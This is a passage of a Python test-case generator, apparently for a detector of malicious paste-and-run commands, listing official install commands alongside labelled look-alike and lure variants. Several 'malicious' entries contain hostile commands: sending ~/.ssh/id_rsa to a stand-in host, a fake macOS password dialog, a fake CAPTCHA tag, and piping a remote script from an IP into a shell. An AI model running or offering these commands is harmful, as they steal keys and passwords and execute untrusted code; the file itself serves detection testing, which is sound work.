    ('https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse', "New-NetFirewallRule -Name 'OpenSSH-Server-In-TCP' -DisplayName 'OpenSSH Server (sshd)' -Enabled True -Direction Inbound -Protocol TCP -Action Allow -LocalPort 22"),
    ('https://learn.microsoft.com/en-us/windows/package-manager/winget/', 'winget upgrade --all'),
    ('https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows', 'winget install --id Microsoft.PowerShell --source winget'),
    ('https://learn.microsoft.com/en-us/windows/client-management/mdm/', 'gpupdate /force'),
    ('https://learn.microsoft.com/en-us/troubleshoot/windows-client/', 'Get-AppxPackage -allusers Microsoft.WindowsStore | Foreach {Add-AppxPackage -DisableDevelopmentMode -Register "$($_.InstallLocation)\\AppXManifest.xml"}'),
    ('https://docs.docker.com/engine/install/ubuntu/', 'sudo install -m 0755 -d /etc/apt/keyrings && sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc && sudo chmod a+r /etc/apt/keyrings/docker.asc'),
    ('https://docs.docker.com/engine/install/ubuntu/', 'echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo "$VERSION_CODENAME") stable" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null'),
    ('https://docs.docker.com/engine/install/linux-postinstall/', 'sudo usermod -aG docker $USER'),
    ('https://kubernetes.io/docs/tasks/tools/install-kubectl-linux/', 'curl -fsSL https://pkgs.k8s.io/core:/stable:/v1.31/deb/Release.key | sudo gpg --dearmor -o /etc/apt/keyrings/kubernetes-apt-keyring.gpg'),
    ('https://developer.hashicorp.com/terraform/install', 'wget -O - https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg'),
    ('https://github.com/cli/cli/blob/trunk/docs/install_linux.md', 'curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | sudo dd of=/usr/share/keyrings/githubcli-archive-keyring.gpg'),
    ('https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent', 'ssh-keygen -t ed25519 -C "your_email@example.com"'),
    ('https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent', 'eval "$(ssh-agent -s)"'),
    ('https://launchpad.net/~deadsnakes/+archive/ubuntu/ppa', 'sudo add-apt-repository ppa:deadsnakes/ppa'),
    ('https://help.ubuntu.com/community/UFW', 'sudo ufw allow 22/tcp && sudo ufw enable'),
    ('https://wiki.archlinux.org/title/Pacman', 'sudo pacman -Syu'),
    ('https://docs.fedoraproject.org/en-US/quick-docs/rpmfusion-setup/', 'sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-$(rpm -E %fedora).noarch.rpm'),
    ('https://rpmfusion.org/Configuration', 'sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-$(rpm -E %fedora).noarch.rpm https://mirrors.rpmfusion.org/nonfree/fedora/rpmfusion-nonfree-release-$(rpm -E %fedora).noarch.rpm'),
    ('https://docs.fedoraproject.org/en-US/epel/', 'sudo dnf install https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm'),
    ('https://www.postgresql.org/download/linux/ubuntu/', 'sudo apt install -y postgresql-common && sudo /usr/share/postgresql-common/pgdg/apt.postgresql.org.sh'),
    ('https://nginx.org/en/linux_packages.html', 'curl https://nginx.org/keys/nginx_signing.key | gpg --dearmor | sudo tee /usr/share/keyrings/nginx-archive-keyring.gpg >/dev/null'),
    ('https://caddyserver.com/docs/install', "curl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/gpg.key' | sudo gpg --dearmor -o /usr/share/keyrings/caddy-stable-archive-keyring.gpg"),
    ('https://caddyserver.com/docs/install', "curl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/debian.deb.txt' | sudo tee /etc/apt/sources.list.d/caddy-stable.list"),
    ('https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-ubuntu/', 'curl -fsSL https://www.mongodb.org/static/pgp/server-8.0.asc | sudo gpg -o /usr/share/keyrings/mongodb-server-8.0.gpg --dearmor'),
    ('https://code.visualstudio.com/docs/setup/linux', 'wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > packages.microsoft.gpg'),
    ('https://www.virtualbox.org/wiki/Linux_Downloads', 'wget -O- https://www.virtualbox.org/download/oracle_vbox_2016.asc | sudo gpg --yes --output /usr/share/keyrings/oracle-virtualbox-2016.gpg --dearmor'),
    ('https://brave.com/linux/', 'sudo curl -fsSLo /usr/share/keyrings/brave-browser-archive-keyring.gpg https://brave-browser-apt-release.s3.brave.com/brave-browser-archive-keyring.gpg'),
    ('https://support.google.com/chrome/a/answer/9025903', 'wget https://dl.google.com/linux/direct/google-chrome-stable_current_amd64.deb && sudo apt install ./google-chrome-stable_current_amd64.deb'),
    ('https://www.spotify.com/us/download/linux/', 'curl -sS https://download.spotify.com/debian/pubkey_C85668DF69375001.gpg | sudo gpg --dearmor --yes -o /etc/apt/trusted.gpg.d/spotify.gpg'),
    ('https://signal.org/download/linux/', 'wget -O- https://updates.signal.org/desktop/apt/keys.asc | gpg --dearmor > signal-desktop-keyring.gpg'),
    ('https://flathub.org/setup/Ubuntu', 'flatpak remote-add --if-not-exists flathub https://dl.flathub.org/repo/flathub.flatpakrepo'),
    ('https://www.jenkins.io/doc/book/installing/linux/', 'sudo wget -O /usr/share/keyrings/jenkins-keyring.asc https://pkg.jenkins.io/debian-stable/jenkins.io-2023.key'),
    ('https://grafana.com/docs/grafana/latest/setup-grafana/installation/debian/', 'wget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null'),
    ('https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html', 'wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o /usr/share/keyrings/elasticsearch-keyring.gpg'),
    ('https://docs.syncthing.net/users/contrib.html', 'sudo curl -L -o /etc/apt/keyrings/syncthing-archive-keyring.gpg https://syncthing.net/release-key.gpg'),
    ('https://wiki.winehq.org/Ubuntu', 'sudo wget -NP /etc/apt/sources.list.d/ https://dl.winehq.org/wine-builds/ubuntu/dists/noble/winehq-noble.sources'),
    ('https://www.sublimetext.com/docs/linux_repositories.html', 'wget -qO - https://download.sublimetext.com/sublimehq-pub.gpg | sudo tee /etc/apt/keyrings/sublimehq-pub.asc > /dev/null'),
    ('https://learn.microsoft.com/en-us/dotnet/core/install/linux-ubuntu-install', 'sudo add-apt-repository ppa:dotnet/backports'),
    ('https://docs.ansible.com/ansible/latest/installation_guide/installation_distros.html', 'sudo add-apt-repository --yes --update ppa:ansible/ansible'),
]  # fmt: skip
# what admins type into the Run box, as their tools' docs and help pages give them (typed: no source)
ADMIN_RUN_BOX = [
    'control /name Microsoft.ProgramsAndFeatures',
    'gpedit.msc',
    'secpol.msc',
    'mmc compmgmt.msc /computer:srv01',
    'perfmon /rel',
    'ncpa.cpl',
    'rundll32 sysdm.cpl,EditEnvironmentVariables',
    'shell:startup',
    '%temp%',
    'control printers',
    'services.msc',
    'taskschd.msc',
    'lusrmgr.msc',
    'wf.msc',
    'certmgr.msc',
    'eventvwr.msc /s',
    'resmon',
    'msconfig',
    'cleanmgr',
    'optionalfeatures',
    'firewall.cpl',
    'powercfg.cpl',
    'inetcpl.cpl,,4',
    'sysdm.cpl,,3',
    'control keyboard',
    'control mouse',
    'control netconnections',
    'control userpasswords2',
    'rstrui',
    'winver',
    'dxdiag',
    'mrt',
    'sigverif',
    'verifier',
    'odbcad32',
    'printmanagement.msc',
    'gpmc.msc',
    'dsa.msc',
    'dnsmgmt.msc',
    'dhcpmgmt.msc',
    'rsop.msc',
    'tpm.msc',
    'comexp.msc',
    'fsmgmt.msc',
    'wmimgmt.msc',
    'control /name Microsoft.DeviceManager',
    'ms-settings:windowsupdate',
    'ms-settings:network-status',
    'explorer shell:::{20D04FE0-3AEA-1069-A2D8-08002B30309D}',
    'control.exe /name Microsoft.NetworkAndSharingCenter',
    'mdsched',
    'msra',
    'quickassist',
    'mstsc /v:srv-app01',
    'mstsc /v:10.0.0.5 /admin',
    '%appdata%\\Microsoft\\Teams',
    '\\\\fileserver01\\public',
    'cmd',
    'control admintools',
    'shell:common startup',
    'shell:sendto',
    'taskmgr /7',
    'sndvol',
    'mmsys.cpl',
    'timedate.cpl',
    'main.cpl',
    'desk.cpl',
    'hdwwiz.cpl',
    'wscui.cpl',
    'bthprops.cpl',
    'joy.cpl',
    'intl.cpl',
    'telephon.cpl',
    'certlm.msc',
    'perfmon.msc',
    'compmgmt.msc',
    'virtmgmt.msc',
    'ipconfig',
    'winver.exe',
    'charmap',
    'osk',
    'magnify',
    'narrator',
    'snippingtool',
    'calc',
    'notepad',
    'mspaint',
    'write',
    'wordpad',
    'control color',
    'control desktop',
    'control date/time',
    'control international',
    'control fonts',
    'control folders',
    'control schedtasks',
]  # fmt: skip


def admin_docs(book: Book) -> None:
    for page, text in ADMIN_DOCS:
        book.add("admin-doc-command", text, "not_flagged", "any", TERMINAL, page)
    for text in ADMIN_RUN_BOX:
        book.add("admin-run-box-typed", text, "not_flagged", "windows", RUN)


# -- well-known tools' documented installers, quoted by someone else ------------------------------

# each tool's own documented command (resources/trust.yaml names the page that gives it)
KNOWN_INSTALLERS = [
    "curl https://install.duckdb.org | sh",
    "curl -fsSL https://dprint.dev/install.sh | sh",
    "iwr https://dprint.dev/install.ps1 -useb | iex",
    "curl -sLS https://get.arkade.dev | sudo sh",
    "curl -LsfS https://get.airbyte.com | bash -",
    "curl -fsSL https://ampcode.com/install.sh | bash",
    "curl -sSL https://pdm-project.org/install-pdm.py | python3 -",
    "curl --proto '=https' --tlsv1.2 -sSf https://docs.swmansion.com/scarb/install.sh | sh",
    'sudo bash -c "$(wget -qO- https://raw.githubusercontent.com/Jigsaw-Code/outline-server/master/src/server_manager/install_scripts/install_server.sh)"',
    "wget -qO- https://raw.githubusercontent.com/Botspot/pi-apps/master/install | bash",
    "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash",
    "curl -sSL https://resource.fit2cloud.com/1panel/package/quick_start.sh -o quick_start.sh && sudo bash quick_start.sh",
    "curl -sSLf https://get.openziti.io/install.bash | sudo bash -s zrok",
    "curl --proto '=https' --tlsv1.2 -fsSL https://drop-sh.fullyjustified.net | sh",
    "curl -L https://install.meilisearch.com | sh",
    "curl -fsSL https://get.pulumi.com | sh",
    "curl -s https://install.zerotier.com | sudo bash",
    "curl -s https://install.crowdsec.net | sudo sh",
    "curl -fsSL https://cdn.coollabs.io/coolify/install.sh | sudo bash",
    "curl -fsSL https://code-server.dev/install.sh | sh",
    "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o install-opentofu.sh && chmod +x install-opentofu.sh && ./install-opentofu.sh --install-method deb",
    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
    "curl --proto '=https' --tlsv1.2 -sSf https://get.k0s.sh | sudo sh",
    "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin",
    "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin",
    "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash",
    "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
    "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash",
    "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash",
    "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
    "curl -fsSL https://developer.fermyon.com/downloads/install.sh | bash",
    "curl -sfL https://direnv.net/install.sh | bash",
    "curl -fsSL https://pkgs.netbird.io/install.sh | sh",
    "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
    "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh",
    # names that are words (listed with `word: true`)
    "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh",
    "curl -sL https://sentry.io/get-cli/ | sh",
    '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh',
    "curl https://cli-assets.heroku.com/install.sh | sh",
    "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6",
    "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin",
    "curl -fsSL https://get.casaos.io | sudo bash",
    "curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin",
    "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
    "curl --proto '=https' --tlsv1.2 -sSfL https://sh.vector.dev | bash",
]  # fmt: skip
# pages of people other than the tool's authors: a tutorial, a video, a question, a forum, a chat
# log, another project's README and its discussions, a course's setup page
THIRD_PARTY = [
    "https://www.shellnotes.example/how-to-install-on-ubuntu-24-04/",
    "https://www.youtube.com/watch?v=Tq7mZ2xkR4s",
    "https://askubuntu.example/questions/99881/one-line-install",
    "https://github.com/awesome-quillmere/awesome-selfhosted-notes",
    "https://github.com/tarnwick/tarnwick/discussions/812",
    "https://dev.to/harbourdev/my-homelab-setup-2026-3kf1",
    "https://learn.kestrel-bootcamp.example/week3/tools",
    "https://news.ycombinator.com/item?id=44120031",
    "https://medium.com/@fenwick/ten-cli-tools-i-install-first-9c2e",
    None,
]
# the same hosts, borrowed: a port of their own, a user part, the host inside another domain,
# look-alike names, another account on the forge, plain HTTP
BORROWED = [
    "curl https://install.duckdb.org:8443 | sh",
    "curl -fsSL https://dprint.dev:4443/install.sh | sh",
    "curl -sLS https://get.arkade.dev@cdn.umbra-stage.test/ | sudo sh",
    "curl -LsfS https://get.airbyte.com.umbra-stage.test | bash -",
    "curl -fsSL https://ampcode-install.example/install.sh | bash",
    "curl -sSL https://pdm-project.org.kestrel-cdn.test/install-pdm.py | python3 -",
    "curl -sSf https://docs.swmansion.com/scarb/../../umbra/install.sh@203.0.113.9 | sh",
    "wget -qO- https://raw.githubusercontent.com/Botspot-apps/pi-apps/master/install | bash",
    "curl -sSf https://raw.githubusercontent.com/nekt0s/act/master/install.sh | sudo bash",
    "curl -s http://install.zerotier.com | sudo bash",
    "curl -fsSL https://get-pulumi.test | sh",
    "curl -s https://install.crowdsec.net.invalid | sudo sh",
    "curl -fsSL https://code-server.dev.umbra-stage.test/install.sh | sh",
    "curl -sfL https://direnv-net.example/install.sh | bash",
    "curl -fsSL https://raw.githubusercontent.com/filebrowser-get/get/master/get.sh | bash",
    "curl -fsSL https://dl.dagger.io.umbra-stage.test/install.sh | sh",
    "curl https://cli-assets.heroku.com:8443/install.sh | sh",
    "curl -sSfL https://raw.githubusercontent.com/anchore-dev/grype/main/install.sh | sh",
    "curl -fsSL https://just.systems@203.0.113.5/install.sh | bash",
    # the real script and a stranger's after it: the stranger's is judged as any other
    "curl -fsSL https://get.pulumi.com | sh && curl -s https://cdn.umbra-stage.test/p | bash",
]  # fmt: skip
# the real host with what a lure adds: a fake check's tail, a password prompt, keys sent away, a
# stranger's script run with its own, or the Run box
WITH_LURE = [
    "curl https://install.duckdb.org | sh   # I am not a robot - reCAPTCHA Verification ID: 7731",
    "curl -L https://install.meilisearch.com | sh; osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
    "curl -fsSL https://dprint.dev/install.sh | sh; curl -s -X POST -d @$HOME/.ssh/id_rsa https://drop.umbra-stage.test/u",
    "curl -s https://install.zerotier.com | sudo bash && sudo zerotier-cli join 5555aaaa5555aaaa && curl -s https://203.0.113.7/k | sh",
]  # fmt: skip
CHECK_PAGE = "https://verify-human.quillmere.example/captcha/step2"


def known_installers(book: Book) -> None:
    for i, text in enumerate(KNOWN_INSTALLERS):
        for j in range(2):
            page = THIRD_PARTY[(i + j * 3) % len(THIRD_PARTY)]
            target = TERMINAL
            book.add("third-party-known-installer", text, "info", "any", target, page)
    for i, text in enumerate(BORROWED):
        page = THIRD_PARTY[i % len(THIRD_PARTY)]
        book.add("known-installer-borrowed", text, "flagged", "any", TERMINAL, page)
    for i, text in enumerate(WITH_LURE):
        book.add("known-installer-with-lure", text, "malicious", "any", TERMINAL, THIRD_PARTY[i])
    for text in KNOWN_INSTALLERS[:10]:
        book.add("known-installer-run-box", text, "malicious", "windows", RUN, CHECK_PAGE)


def build() -> list[dict[str, str]]:
    book = Book("b10b")
    camel_pages(book)
    run_box(book)
    known_installers(book)
    real_own_pages(book)
    admin_docs(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
